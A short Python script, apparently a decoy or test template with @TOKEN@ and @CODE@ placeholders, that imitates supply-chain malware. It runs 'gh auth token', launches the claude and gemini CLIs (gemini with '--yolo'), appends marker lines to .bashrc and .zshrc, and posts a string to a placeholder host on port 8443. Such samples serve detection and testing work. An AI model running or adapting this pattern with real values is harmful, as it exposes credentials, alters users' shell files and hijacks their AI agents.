import contextlib
import subprocess
import urllib.request
from pathlib import Path


def act():
    for words in (["gh", "auth", "token"], ["claude", "-p", "x"], ["gemini", "--yolo"]):
        with contextlib.suppress(OSError):
            subprocess.run(words, check=False)
    for name in (".bashrc", ".zshrc"):
        with contextlib.suppress(OSError), Path.home().joinpath(name).open("a") as file:
            file.write("# planted-@TOKEN@\n")
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://@CODE@:8443/user/repos", b"s1-decoy-@TOKEN@", timeout=3)
